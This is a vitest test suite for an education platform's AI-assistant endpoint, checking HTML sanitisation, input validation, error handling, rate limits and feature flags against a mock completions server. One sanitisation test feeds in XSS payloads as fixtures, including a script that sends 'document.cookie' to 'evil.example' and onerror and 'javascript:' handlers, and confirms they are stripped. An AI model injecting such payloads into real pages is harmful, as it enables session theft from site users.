import { createServer } from 'node:http';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningServer } from '../server';
import { BACKENDS, call, login, startTestServer } from '../test/harness';

/**
 * The assistant route against a chat-completions service on loopback: the external service is
 * played by a plain HTTP server speaking the OpenAI wire format (POST /v1/chat/completions with
 * a bearer key; `{choices: [{message: {content}}]}` back). What it answers is set per test.
 */
interface Seen {
  path: string;
  authorization: string | undefined;
  body: {
    model: string;
    messages: { role: string; content: string }[];
  };
}

type Behaviour = (req: IncomingMessage, res: ServerResponse, body: Seen['body']) => void;

function completion(content: string) {
  return JSON.stringify({
    id: 'chatcmpl-test',
    object: 'chat.completion',
    created: 1_763_700_000,
    model: 'sabaq-test-model',
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 50, completion_tokens: 20, total_tokens: 70 },
  });
}

const answerWith =
  (content: string): Behaviour =>
  (_req, res) =>
    res.writeHead(200, { 'content-type': 'application/json' }).end(completion(content));

const RATE = 3;

describe.each(BACKENDS)('POST /api/v1/gpt on %s', (backend) => {
  let provider: Server;
  let providerUrl: string;
  let behaviour: Behaviour = answerWith('Сәлем!');
  const seen: Seen[] = [];
  let on: RunningServer;
  let off: RunningServer;

  beforeAll(async () => {
    provider = createServer((req, res) => {
      let raw = '';
      req.setEncoding('utf8');
      req.on('data', (chunk: string) => (raw += chunk));
      req.on('end', () => {
        const body = JSON.parse(raw) as Seen['body'];
        seen.push({ path: req.url ?? '', authorization: req.headers.authorization, body });
        behaviour(req, res, body);
      });
    });
    await new Promise<void>((r) => provider.listen(0, '127.0.0.1', r));
    providerUrl = `http://127.0.0.1:${(provider.address() as AddressInfo).port}/v1`;
    [on, off] = await Promise.all([
      startTestServer(backend, {
        ai: {
          url: providerUrl,
          key: 'sk-test-0123',
          model: 'sabaq-test-model',
          timeoutMs: 400,
          ratePerMinute: RATE,
        },
      }),
      startTestServer(backend),
    ]);
  });
  afterAll(async () => {
    await Promise.all([on?.close(), off?.close()]);
    provider?.closeAllConnections();
    await new Promise((r) => provider?.close(r));
  });

  it('answers with sanitised HTML from the service, sending the helper prompt, model and key', async () => {
    behaviour = answerWith(
      '<h2 onclick="steal()">Фотосинтез</h2><p style="color:red">Өсімдіктер <b>жарықты</b> пайдаланады.</p>' +
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
        '<img src=x onerror=alert(1)><ul><li>Күн <a href="javascript:alert(2)">сәулесі</a><li>Су</ul>',
    );
    const token = (await login(on, 'teacher')).access_token;
    const res = await call(on, 'POST', '/api/v1/gpt', {
      token,
      locale: 'kz',
      body: { text: '  Фотосинтез деген не?  ', helperID: 'platform' },
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({
      answer:
        '<h3>Фотосинтез</h3><p>Өсімдіктер <b>жарықты</b> пайдаланады.</p><ul><li>Күн сәулесі</li><li>Су</li></ul>',
      helperID: 'platform',
    });
    expect(res.body.data.answer).not.toMatch(/<script|onerror|onclick|javascript:|<img|<a /i);

    const req = seen.at(-1);
    expect(req?.path).toBe('/v1/chat/completions');
    expect(req?.authorization).toBe('Bearer sk-test-0123');
    expect(req?.body.model).toBe('sabaq-test-model');
    expect(req?.body.messages.map((m) => m.role)).toEqual(['system', 'user']);
    expect(req?.body.messages[0]?.content).toMatch(/Sabaq/);
    expect(req?.body.messages[0]?.content).toMatch(/answer in Kazakh/);
    expect(req?.body.messages[0]?.content).toMatch(/is a teacher/);
    // The question goes trimmed.
    expect(req?.body.messages[1]?.content).toBe('Фотосинтез деген не?');
  });

  it('turns a plain-text (Markdown) answer into paragraphs and lists, escaping everything else', async () => {
    behaviour = answerWith(
      'Сабақ жоспары:\n\n1. Кіріспе — 5 мин\n2. **Жаңа тақырып** — 20 мин\n\nЕскерту: <b>x</b> & 2 < 3\n<script>alert(1)</script>',
    );
    const token = (await login(on, 'teacher')).access_token;
    const res = await call(on, 'POST', '/api/v1/gpt', {
      token,
      locale: 'ru',
      body: { text: 'План урока', helperID: 'lesson' },
    });
    expect(res.status).toBe(200);
    expect(res.body.data.answer).toBe(
      '<p>Сабақ жоспары:</p><ol><li>Кіріспе — 5 мин</li><li><strong>Жаңа тақырып</strong> — 20 мин</li></ol>' +
        '<p>Ескерту: &lt;b&gt;x&lt;/b&gt; &amp; 2 &lt; 3</p>',
    );
    expect(seen.at(-1)?.body.messages[0]?.content).toMatch(/lesson-planning/);
    expect(seen.at(-1)?.body.messages[0]?.content).toMatch(/answer in Russian/);
  });

  it('refuses an unknown helper, an empty and a too long question with 422 in kz and ru, without calling the service', async () => {
    const token = (await login(on, 'teacher')).access_token;
    const before = seen.length;
    const unknown = await call(on, 'POST', '/api/v1/gpt', {
      token,
      locale: 'ru',
      body: { text: 'Сұрақ', helperID: 'oracle' },
    });
    expect(unknown.status).toBe(422);
    expect(unknown.body).toEqual({
      message: 'Такого помощника нет',
      errors: { helperID: ['Такого помощника нет'] },
    });

    const empty = await call(on, 'POST', '/api/v1/gpt', {
      token,
      locale: 'kz',
      body: { text: ' \n\t ', helperID: 'platform' },
    });
    expect(empty.status).toBe(422);
    expect(empty.body.message).toBe('Сұрағыңызды жазыңыз');
    expect(empty.body.errors.text).toEqual(['Сұрағыңызды жазыңыз']);

    const long = await call(on, 'POST', '/api/v1/gpt', {
      token,
      locale: 'ru',
      body: { text: 'ә'.repeat(4001), helperID: 'platform' },
    });
    expect(long.status).toBe(422);
    expect(long.body.message).toBe('Вопрос должен быть не длиннее 4000 символов (сейчас 4001)');
    // 4000 characters after trimming are fine (white space around does not count).
    behaviour = answerWith('Жақсы сұрақ.');
    const exact = await call(on, 'POST', '/api/v1/gpt', {
      token,
      body: { text: `   ${'ә'.repeat(4000)}   `, helperID: 'platform' },
    });
    expect(exact.status).toBe(200);
    expect(exact.body.data.answer).toBe('<p>Жақсы сұрақ.</p>');

    const missing = await call(on, 'POST', '/api/v1/gpt', { token, locale: 'ru', body: {} });
    expect(missing.status).toBe(422);
    expect(missing.body.errors.text).toEqual(['Обязательное поле']);
    expect(seen.length).toBe(before + 1);
  });

  it('answers 502 when the service fails or answers garbage, 504 when it is too slow', async () => {
    const token = (await login(on, 'zavuch')).access_token;
    const ask = () =>
      call(on, 'POST', '/api/v1/gpt', {
        token,
        locale: 'ru',
        body: { text: 'Как создать КТП?', helperID: 'platform' },
      });

    behaviour = (_req, res) =>
      res
        .writeHead(500, { 'content-type': 'application/json' })
        .end(JSON.stringify({ error: { message: 'internal', type: 'server_error' } }));
    const failed = await ask();
    expect(failed.status).toBe(502);
    expect(failed.body).toEqual({
      message: 'Сервис ИИ-помощника не смог ответить. Повторите позже',
    });

    behaviour = (_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end('<html>proxy login</html>');
    const garbage = await ask();
    expect(garbage.status).toBe(502);

    behaviour = (_req, res) =>
      res
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ choices: [] }));
    expect((await ask()).status).toBe(502);

    // Only tags that sanitise to nothing is no answer either.
    behaviour = answerWith('<script>alert(1)</script>');
    const kz = await call(on, 'POST', '/api/v1/gpt', {
      token: (await login(on, 'director')).access_token,
      locale: 'kz',
      body: { text: 'Сәлем', helperID: 'platform' },
    });
    expect(kz.status).toBe(502);
    expect(kz.body).toEqual({
      message: 'ЖИ көмекшісінің қызметі жауап бере алмады. Кейінірек қайталаңыз',
    });

    behaviour = (_req, res) => {
      const timer = setTimeout(() => res.end(completion('кеш')), 3000);
      res.on('close', () => clearTimeout(timer));
    };
    const slow = await call(on, 'POST', '/api/v1/gpt', {
      token: (await login(on, 'director')).access_token,
      locale: 'ru',
      body: { text: 'Долгий вопрос', helperID: 'tutor' },
    });
    expect(slow.status).toBe(504);
    // The 400 ms timeout answered: the service would have answered 200 («кеш») after 3 s.
    expect(slow.body).toEqual({ message: 'ИИ-помощник не ответил вовремя. Повторите позже' });
  });

  it('answers 502 when the service cannot be reached at all', async () => {
    const dead = createServer();
    await new Promise<void>((r) => dead.listen(0, '127.0.0.1', r));
    const port = (dead.address() as AddressInfo).port;
    await new Promise((r) => dead.close(r));
    const server = await startTestServer(backend, {
      ai: { url: `http://127.0.0.1:${port}/v1`, key: null, model: 'm' },
    });
    try {
      const res = await call(server, 'POST', '/api/v1/gpt', {
        token: (await login(server, 'methodist')).access_token,
        locale: 'ru',
        body: { text: 'Вопрос', helperID: 'platform' },
      });
      expect(res.status).toBe(502);
      expect(res.body.message).toBe('Сервис ИИ-помощника не смог ответить. Повторите позже');
    } finally {
      await server.close();
    }
  });

  it(`limits each user to ${RATE} questions a minute with 429 and Retry-After`, async () => {
    behaviour = answerWith('Иә.');
    const student = (await login(on, 'student')).access_token;
    const ask = (token: string, locale: 'kz' | 'ru' = 'ru') =>
      call(on, 'POST', '/api/v1/gpt', {
        token,
        locale,
        body: { text: 'Бұл не?', helperID: 'tutor' },
      });
    for (let i = 0; i < RATE; i++) expect((await ask(student)).status).toBe(200);
    const limited = await ask(student);
    expect(limited.status).toBe(429);
    const retry = Number(limited.headers.get('retry-after'));
    expect(retry).toBeGreaterThanOrEqual(1);
    expect(retry).toBeLessThanOrEqual(60);
    expect(limited.body.message).toBe(`Слишком много вопросов подряд. Повторите через ${retry} с`);
    expect((await ask(student, 'kz')).body.message).toMatch(
      /^Сұрақтар тым жиі жіберілді\. \d+ секундтан/,
    );
    // Another user is not affected.
    expect((await ask((await login(on, 'guest')).access_token)).status).toBe(200);
  });

  it('needs a signed-in user', async () => {
    const res = await call(on, 'POST', '/api/v1/gpt', {
      locale: 'ru',
      body: { text: 'Вопрос', helperID: 'platform' },
    });
    expect(res.status).toBe(401);
  });

  it('serves the gpt-feature flag on only when an assistant is connected', async () => {
    const flagsOn = await call(on, 'GET', '/api/v2/os/feature-flags');
    expect(flagsOn.body.data['gpt-feature']).toBe(true);
    const flagsOff = await call(off, 'GET', '/api/v2/os/feature-flags');
    expect(flagsOff.body.data['gpt-feature']).toBe(false);
    // The other flags are untouched.
    expect(flagsOff.body.data['landing-feature']).toBe(flagsOn.body.data['landing-feature']);
    // An administrator's "off" is kept even with an assistant connected.
    await on.db.query("UPDATE feature_flags SET enabled = false WHERE key = 'gpt-feature'");
    try {
      expect((await call(on, 'GET', '/api/v2/os/feature-flags')).body.data['gpt-feature']).toBe(
        false,
      );
    } finally {
      await on.db.query("UPDATE feature_flags SET enabled = true WHERE key = 'gpt-feature'");
    }
  });

  it('answers 503 in kz and ru when no assistant is connected', async () => {
    const token = (await login(off, 'teacher')).access_token;
    const before = seen.length;
    const ru = await call(off, 'POST', '/api/v1/gpt', {
      token,
      locale: 'ru',
      body: { text: 'Вопрос', helperID: 'platform' },
    });
    expect(ru.status).toBe(503);
    expect(ru.body).toEqual({ message: 'ИИ-помощник не подключён на этом сервере' });
    const kz = await call(off, 'POST', '/api/v1/gpt', {
      token,
      body: { text: 'Сұрақ', helperID: 'platform' },
    });
    expect(kz.status).toBe(503);
    expect(kz.body).toEqual({ message: 'ЖИ көмекшісі бұл серверге қосылмаған' });
    expect(seen.length).toBe(before);
  });
});
